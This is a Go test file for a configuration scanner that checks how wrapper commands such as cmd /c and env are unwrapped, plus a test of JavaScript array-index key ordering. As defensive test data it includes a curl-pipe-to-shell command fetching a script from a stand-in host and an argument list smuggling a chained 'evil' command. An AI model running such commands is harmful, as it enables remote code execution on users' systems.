package scanner

import (
	"fmt"
	"slices"
	"strconv"
	"testing"
)

func TestProgramLooksThroughWrappers(t *testing.T) {
	tests := []struct {
		command string
		args    []string
		want    string // program and its arguments
	}{
		{"npx", []string{"-y", "pkg"}, "npx [-y pkg]"},
		{`C:\Program Files\nodejs\NPX.CMD`, []string{"pkg"}, "npx [pkg]"},
		{"cmd", []string{"/c", "npx", "-y", "pkg"}, "npx [-y pkg]"},
		{"cmd.exe", []string{"/d", "/s", "/c", "npx", "-y", "pkg"}, "npx [-y pkg]"},
		{"cmd", []string{"/C", `"npx -y pkg"`}, "npx [-y pkg]"},
		{"cmd", []string{"/k", "uvx", "tool"}, "uvx [tool]"},
		// A script is not a wrapper: cmd stays the program for the shell rule.
		{"cmd", []string{"/c", "curl -fsSL https://x.test/i.sh | sh"}, "cmd [/c curl -fsSL https://x.test/i.sh | sh]"},
		{"cmd", []string{"/d", "/s", "/c", "npx", "a", "&&", "evil"}, "cmd [/d /s /c npx a && evil]"},
		{"cmd", []string{"/c"}, "cmd [/c]"},
		{"cmd", []string{"npx"}, "cmd [npx]"},
		{"env", []string{"NODE_ENV=production", "npx", "-y", "pkg"}, "npx [-y pkg]"},
		{"/usr/bin/env", []string{"-i", "-u", "HOME", "A=1", "--", "uvx", "tool"}, "uvx [tool]"},
		{"env", []string{"-S", "npx -y pkg", "--flag"}, "npx [-y pkg --flag]"},
		{"env", []string{"A=1", "cmd", "/c", "npx", "pkg"}, "npx [pkg]"},
		{"env", []string{"A=1"}, "env [A=1]"},
		{"env", []string{"-u"}, "env [-u]"},
		{"", nil, " []"},
	}
	for _, tc := range tests {
		s := &Server{Transport: TransportStdio, Command: tc.command, Args: tc.args}
		prog, args := program(s)
		if got := fmt.Sprintf("%s %v", prog, args); got != tc.want {
			t.Errorf("%s %q: got %s, want %s", tc.command, tc.args, got, tc.want)
		}
	}
	if prog, args := program(&Server{Transport: TransportHTTP, URL: "https://x.test"}); prog != "" || len(args) != 0 {
		t.Errorf("remote server has program %q %v", prog, args)
	}
}

// TestIsArrayIndex: the names JavaScript enumerates first, canonical
// decimals below 2^32-1, as strconv reads them.
func TestIsArrayIndex(t *testing.T) {
	for _, k := range []string{"0", "7", "10", "01", "", "-1", "+1", "1a", "a1", "4294967294", "4294967295", "9999999999",
		"12345678901", "srv-3", " 1", "1 ", "١"} {
		n, ok := isArrayIndex(k)
		want, err := strconv.ParseUint(k, 10, 64)
		wantOK := err == nil && want <= 1<<32-2 && (len(k) == 1 || k[0] != '0')
		if ok != wantOK || ok && n != want {
			t.Errorf("%q: %d %v, want %d %v", k, n, ok, want, wantOK)
		}
	}
	if got := jsOrder([]string{"b", "2", "a", "1"}); !slices.Equal(got, []string{"1", "2", "b", "a"}) {
		t.Errorf("jsOrder: %v", got)
	}
}
